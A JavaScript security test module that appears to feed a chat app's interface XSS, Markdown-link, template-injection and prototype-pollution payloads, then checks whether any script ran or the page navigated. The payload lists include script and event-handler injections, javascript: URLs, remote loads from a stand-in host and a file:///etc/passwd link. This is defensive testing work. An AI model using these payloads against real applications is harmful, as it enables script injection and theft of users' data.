import { until } from './run-app.mjs'

/** Text that runs code or reaches a server in programs that take text for HTML, Markdown extensions, or a template. */
const code = 'globalThis.hacked=1'
const server = 'https://way-out.example'

const html = [
  `<script>${code}</script>`,
  `<script src="${server}/a.js"></script>`,
  `<img src=x onerror="${code}">`,
  `<svg onload="${code}"><animate onbegin="${code}" attributeName=x dur=1s></svg>`,
  `<svg><script>${code}</script></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${code}</script></svg>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${code}&gt;">`,
  `<math href="javascript:${code}">x</math>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${code}"></iframe>`,
  `<object data="data:text/html,<script>${code}</script>"></object>`,
  `<embed src="${server}/b.swf">`,
  `<body onload="${code}">`,
  `<details open ontoggle="${code}">x</details>`,
  `<input autofocus onfocus="${code}">`,
  `<video><source onerror="${code}"></video>`,
  `<audio src=x onerror="${code}"></audio>`,
  `<marquee onstart="${code}">x</marquee>`,
  `<form action="javascript:${code}"><button autofocus>x</button></form>`,
  `<a href="javascript:${code}" autofocus onfocus="${code}">x</a>`,
  `<base href="${server}/"><script src="a.js"></script>`,
  `<meta http-equiv="refresh" content="0; url=javascript:${code}">`,
  `<link rel="stylesheet" href="${server}/c.css">`,
  `<style>@import '${server}/d.css'; body { background: url(${server}/e.png) }</style>`,
  `<template><img src=x onerror="${code}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<webview src="${server}/" nodeintegration></webview>`,
  `"><img src=x onerror=${code}>`,
  `'-${code}-'`,
  `\u0000<img src=x onerror=${code}>`,
  `<img\u000csrc=x\u000conerror=${code}>`,
]

const markdown = [
  `[a](javascript:${code})`,
  `[a](JaVaScRiPt:${code})`,
  `[a](java&#x09;script:${code})`,
  `[a](&#106;avascript:${code})`,
  `[a](data:text/html,<script>${code}</script>)`,
  `[a](vbscript:${code})`,
  `[a](file:///etc/passwd)`,
  `[a](x-apple.systempreferences:com.apple.preference)`,
  `<javascript:${code}>`,
  `[a][b]\n\n[b]: javascript:${code}`,
  `![a](${server}/f.png)`,
  `![a](x"onerror="${code})`,
  `[![a](${server}/g.png)](${server}/h)`,
  `[a](${server}/ "x" onmouseover="${code}")`,
  `\`\`\`html\n<script>${code}</script>\n\`\`\``,
  `\`\`\`"><img src=x onerror=${code}>\nx\n\`\`\``,
  `\`\`\`mermaid\nclick A javascript:${code}\n\`\`\``,
  `\`\`\`svg\n<svg onload="${code}"/>\n\`\`\``,
  `$\\href{javascript:${code}}{x}$ and $$\\includegraphics{${server}/i.png}$$`,
  `$\\htmlData{x=1" onmouseover="${code}}{x}$`,
  `| a |\n|---|\n| <img src=x onerror=${code}> |`,
  `[^1]\n\n[^1]: <img src=x onerror=${code}>`,
  `- [ ] <input autofocus onfocus=${code}>`,
  `<!-- --><script>${code}</script> -->`,
]

const templates = [
  `{{constructor.constructor('${code}')()}}`,
  `\${${code}}`,
  `<%= ${code} %>`,
  `{% import os %}{{ ''.__class__.__mro__ }}`,
  `__proto__`,
  `{"__proto__":{"hacked":1}}`,
  `\u202e<script>${code}</script>`,
  `\u{e0001}\u{e0041}`,
]

const corpus = [...html, ...markdown, ...templates]
const names = [...html.slice(0, 6), ...templates].map((text) => text.replaceAll('/', '∕'))

/**
 * Puts each text where the app shows text of others: a reply, a message, a title, the name of a document, instructions.
 * @param {import('./driven-app.mjs').DrivenApp} app
 * @returns {Promise<{ tried: number, ran: string[] }>}
 */
export async function tryPayloads(app) {
  const settings = await app.request('getSettings')
  await app.request('saveSettings', { ...settings, defaults: { ...settings.defaults, maxTokens: 1 } })
  const ran = []
  let tried = 0
  const look = async (where) => {
    tried++
    if (await hasRun(app)) ran.push(where)
  }
  const id = await app.ask('Hello')
  await app.show(id)
  for (const text of corpus) {
    await app.request('editMessage', await app.lastReply(), text)
    await shown(app)
    await look(`a reply: ${text}`)
    await app.request('renameConversation', id, text.slice(0, 200))
    await shown(app)
    await look(`a title: ${text}`)
  }
  for (const name of names) {
    await app.request('addDocuments', null, [{ name: `${name}.html`, text: corpus.join('\n') }])
    await shown(app)
    await look(`a document named ${name}`)
  }
  await app.request('setConversationSettings', id, { ...settings.defaults, instructions: corpus.join('\n') })
  await app.ask(corpus.slice(0, 12).join('\n'), id)
  await look('a message, and the instructions of a conversation')
  return { tried, ran }
}

/** Resolves when the page has drawn what it was told before. */
const shown = (app) =>
  until(() =>
    app.in('index.html', () => new Promise((done) => requestAnimationFrame(() => setTimeout(() => done(true))))),
  )

const hasRun = (app) =>
  app.in('index.html', () => {
    const drawn = document.querySelectorAll(
      'main script, main iframe, main object, main embed, main base, main webview, main svg script, nav img, main form[action]',
    )
    const links = [...document.querySelectorAll('main a[href]')].some(
      ({ href }) => !/^(https?|mailto|parley):/.test(href),
    )
    return (
      'hacked' in globalThis ||
      'hacked' in {} ||
      drawn.length > 0 ||
      links ||
      location.href !== 'parley://app/index.html'
    )
  })
